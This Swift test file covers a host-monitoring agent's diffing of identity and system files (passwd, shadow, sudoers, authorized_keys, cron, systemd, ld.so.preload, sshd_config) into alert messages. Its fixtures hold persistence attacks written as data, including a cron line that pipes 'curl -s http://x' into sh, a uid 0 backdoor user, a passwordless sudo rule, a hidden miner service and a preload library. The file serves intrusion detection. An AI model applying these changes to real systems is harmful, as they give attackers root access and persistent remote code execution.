import Shared
import Testing
import VigilTestSupport

@testable import SentryAgent

/// The semantic differences, from file contents before and after: what the alert says in words.
@Suite("identity: semantic differences")
struct IdentityDiffTests {
    static let passwd = """
        root:x:0:0:root:/root:/bin/bash
        daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
        alice:x:1000:1000:Alice:/home/alice:/bin/bash

        """

    static func bytes(_ text: String) -> [UInt8] { Array(text.utf8) }

    @Test("a user added is named with uid, home and shell; a uid 0 user is critical")
    func userAdded() {
        let facts = IdentityDiff.facts(
            category: .passwd, path: "/etc/passwd", before: Self.bytes(Self.passwd),
            after: Self.bytes(Self.passwd + "mallory:x:0:0::/home/mallory:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/bash\n"))
        #expect(facts.map(\.change) == ["user_added", "uid_zero"])
        #expect(facts[0].detail == "user bob added (uid 1001, home /home/bob, shell /bin/bash)" && !facts[0].critical)
        #expect(facts[1].target == "mallory" && facts[1].critical)
    }

    @Test("uid changed to 0, shell and home changed, user removed")
    func userChanged() {
        let after = """
            root:x:0:0:root:/root:/bin/bash
            daemon:x:0:1:daemon:/var/daemon:/bin/bash

            """
        let facts = IdentityDiff.facts(category: .passwd, path: "/etc/passwd", before: Self.bytes(Self.passwd), after: Self.bytes(after))
        #expect(facts.map(\.change) == ["uid_zero", "shell_changed", "home_changed", "user_removed"])
        #expect(facts[1].detail == "user daemon: shell /usr/sbin/nologin → /bin/bash")
        #expect(facts[3].detail == "user alice removed")
    }

    @Test("a member added to sudo or docker is critical; to an ordinary group it is not")
    func groupMembers() {
        let before = "sudo:x:27:alice\ndocker:x:999:\nstaff:x:50:\n"
        let after = "sudo:x:27:alice,bob\ndocker:x:999:carol\nstaff:x:50:dave\n"
        let facts = IdentityDiff.facts(category: .group, path: "/etc/group", before: Self.bytes(before), after: Self.bytes(after))
        #expect(facts.filter(\.critical).map(\.target) == ["carol:docker", "bob:sudo"])
        #expect(facts.first { $0.target == "dave:staff" }?.critical == false)
        #expect(facts.first { $0.target == "bob:sudo" }?.detail == "bob added to group sudo (root-equivalent)")
    }

    @Test("shadow: set, changed, removed, unlocked, locked, and never the hash")
    func passwords() {
        let before = "a:!:1::::::\nb:$6$old:1::::::\nc:$6$x:1::::::\nd:!$6$keep:1::::::\ne:$6$e:1::::::\n"
        let after = "a:$6$new:1::::::\nb:$6$changed:1::::::\nc::1::::::\nd:$6$keep:1::::::\ne:!$6$e:1::::::\n"
        let facts = IdentityDiff.facts(category: .shadow, path: "/etc/shadow", before: Self.bytes(before), after: Self.bytes(after))
        #expect(facts.map(\.change) == ["password_set", "password_changed", "password_removed", "password_unlocked", "password_locked"])
        #expect(facts.first { $0.change == "password_removed" }?.critical == true)
        #expect(!facts.contains { $0.detail.contains("$6$") })
    }

    @Test("sudoers: a NOPASSWD rule is critical, continuation lines are joined, comments ignored")
    func sudoers() {
        let before = "# comment\nroot ALL=(ALL:ALL) ALL\n"
        let after = before + "# new comment\nmallory ALL=(ALL) \\\n   NOPASSWD: ALL\nDefaults !requiretty\n"
        let facts = IdentityDiff.facts(category: .sudoers, path: "/etc/sudoers.d/x", before: Self.bytes(before), after: Self.bytes(after))
        #expect(facts.map(\.change) == ["nopasswd_added", "sudo_defaults_changed"])
        #expect(facts[0].detail == "sudo rule without password added: mallory ALL=(ALL) NOPASSWD: ALL" && facts[0].critical)
        #expect(
            IdentityDiff.facts(category: .sudoers, path: "/etc/sudoers", before: Self.bytes(before), after: Self.bytes(before + "# only\n")).isEmpty)
    }

    static let key =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"

    @Test("authorized_keys: key added with type, fingerprint, comment and options; removed; options changed")
    func keys() {
        let added = IdentityDiff.facts(
            category: .authorizedKeys, path: "/root/.ssh/authorized_keys", before: [],
            after: Self.bytes("command=\"/bin/backup\",from=\"10.0.0.0/8\",no-pty \(Self.key) backup@host\n"))
        #expect(added.map(\.change) == ["key_added"])
        #expect(added[0].detail.hasPrefix("key added: ssh-ed25519 SHA256:"))
        #expect(added[0].detail.hasSuffix("“backup@host” with command=\"/bin/backup\", from=\"10.0.0.0/8\""))
        let removed = IdentityDiff.facts(
            category: .authorizedKeys, path: "/root/.ssh/authorized_keys", before: Self.bytes("\(Self.key) a\n"), after: Self.bytes("\n"))
        #expect(removed.map(\.change) == ["key_removed"])
        let changed = IdentityDiff.facts(
            category: .authorizedKeys, path: "/root/.ssh/authorized_keys", before: Self.bytes("\(Self.key) a\n"),
            after: Self.bytes("restrict \(Self.key) a\n"))
        #expect(changed.map(\.change) == ["key_options_changed"])
        #expect(
            IdentityDiff.facts(category: .authorizedKeys, path: "/x", before: Self.bytes("\(Self.key) a\n"), after: Self.bytes("\(Self.key) a\n\n"))
                .isEmpty)
    }

    @Test("cron: the new line; units: the new unit with its ExecStart; preload: any content is critical")
    func cronUnitsPreload() {
        let cron = IdentityDiff.facts(
            category: .cron, path: "/etc/crontab", before: Self.bytes("# m h\n17 * * * * root run-parts\n"),
            after: Self.bytes("# m h\n17 * * * * root run-parts\n* * * * * root curl -s http://x | sh\n"))
        #expect(cron.map(\.detail) == ["cron line added: * * * * * root curl -s http://x | sh"])
        let unit = IdentityDiff.facts(
            category: .unit, path: "/etc/systemd/system/evil.service", before: nil,
            after: Self.bytes("[Service]\nExecStart=/tmp/.x/miner --quiet\n[Install]\nWantedBy=multi-user.target\n"))
        #expect(unit.map(\.detail) == ["unit evil.service added", "evil.service runs ExecStart=/tmp/.x/miner --quiet"])
        let preload = IdentityDiff.facts(category: .preload, path: "/etc/ld.so.preload", before: nil, after: Self.bytes("/lib/libhide.so\n"))
        #expect(preload.map(\.change) == ["preload_set"] && preload[0].critical)
    }

    @Test("sshd: a risky setting change is critical")
    func sshd() {
        let facts = IdentityDiff.facts(
            category: .sshd, path: "/etc/ssh/sshd_config", before: Self.bytes("PermitRootLogin no\nPort 22\n"),
            after: Self.bytes("PermitRootLogin yes\nPort 22\n"))
        #expect(facts.map(\.detail) == ["sshd permitrootlogin: no → yes"] && facts[0].critical)
    }
}
